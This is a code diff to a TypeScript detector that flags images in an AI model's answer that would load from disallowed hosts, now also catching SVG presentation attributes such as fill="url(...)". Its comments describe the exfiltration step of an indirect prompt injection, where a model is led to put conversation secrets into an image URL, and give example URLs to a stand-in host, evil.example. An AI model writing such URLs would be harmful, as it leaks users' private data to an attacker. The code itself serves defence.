@@ -2,7 +2,7 @@
  * Images an answer asks its reader's client to fetch from a host outside the allowed ones: a Markdown image
  * (`![x](https://evil.example/p?q=…)`, or by reference, `![x][r]` with `[r]: https://…`), an HTML `<img
  * src>` or `srcset`, or another element a page fetches as it loads (FETCHED_BY), or a CSS `url()` in a
- * `style` attribute or a `<style>` (css-fetches.ts). A host that renders the answer fetches it at once, no click needed, so a model led to put
+ * `style` attribute, an SVG presentation attribute (`fill="url(…)"`) or a `<style>` (css-fetches.ts). A host that renders the answer fetches it at once, no click needed, so a model led to put
  * the conversation's secrets into its URL sends them to that host: the exfiltration step of an indirect
  * prompt injection. Before 2026-12-06 such an image passed every action.
  * An image in Markdown's code (a fenced block, a code span: markdown-code.ts) is shown as written and
@@ -62,11 +62,17 @@ const FETCHING_REL = /(?:^|\s)(?:stylesheet|icon|apple-touch-icon|manifest|prelo
 const IMAGE_TYPE = /^\s*image\s*$/i;
 /**
  * Any opening tag, read as IMG reads it: group 1 its name, 2 its attributes. Looked for only in text that
- * STYLING finds, for a `style` attribute (any element's) or a <style> element.
+ * STYLING finds, for a `style` attribute (any element's), an SVG presentation attribute (URL_PRESENTATION) or a <style> element.
  */
 const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)(?=[\s/>])((?:[^<>"'=]|=\s*(?:"[^"]*"|'[^']*'|(?![\s"']))|["'])*)>/g;
-const STYLING = /<style[\s/>]|[\s/"']style\s*=/i;
-const isStyle = (name: string): boolean => name === 'style';
+const STYLING = /<style[\s/>]|[\s/"'](?:style|fill|stroke|filter|mask|clip-path|marker(?:-start|-mid|-end)?|cursor)\s*=/i;
+/**
+ * SVG's presentation attributes whose value may be a url() (a paint server, a filter, a mask, a clip path, a
+ * marker, a cursor): each is the CSS property of its name, whose url() a style is found for (css-fetches.ts).
+ * Before 2026-12-07 `style="fill:url(https://evil.example/…)"` was found and `fill="url(https://evil.example/…)"` was not.
+ */
+const URL_PRESENTATION = new Set(['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker', 'marker-start', 'marker-mid', 'marker-end', 'cursor']);
+const isStyled = (name: string): boolean => name === 'style' || URL_PRESENTATION.has(name);
 /** Where a <style>'s text ends (raw text: no other tag inside counts). */
 const STYLE_END = /<\/style[\s/>]/gi;
 /** A base the checks resolve against, of either scheme (a host page's may be http or https): its own host is no other. */
@@ -140,7 +146,7 @@ export function mayHoldImage(s: string): boolean {
 }
 
 /**
- * The spans of `s`'s styles that fetch from outside (cssFetches): a tag whose `style` attribute does, and a
+ * The spans of `s`'s styles that fetch from outside (cssFetches): a tag whose `style` or presentation attribute does, and a
  * <style> element whose text does, with its text (unclosed, to the end of `s`: a browser reads all after it
  * as its CSS, and with only its tag taken out what follows would be read again as HTML).
  */
@@ -158,8 +164,8 @@ function outsideStyles(s: string, allowed: readonly string[], shownAsCode: (at: 
       TAG.lastIndex = end; // raw text: no tag inside it is one
       continue;
     }
-    // Every `style` attribute (a browser keeps the first: more, never less), not a `style=` inside another's value.
-    if (someAttribute(m[2]!, isStyle, (_name, css) => cssFetches(css, outside)) && !shownAsCode(at)) spans.push([at, at + m[0].length]);
+    // Every `style` attribute (a browser keeps the first: more, never less) and presentation attribute, not a `style=` inside another's value.
+    if (someAttribute(m[2]!, isStyled, (_name, css) => cssFetches(css, outside)) && !shownAsCode(at)) spans.push([at, at + m[0].length]);
   }
 }
 
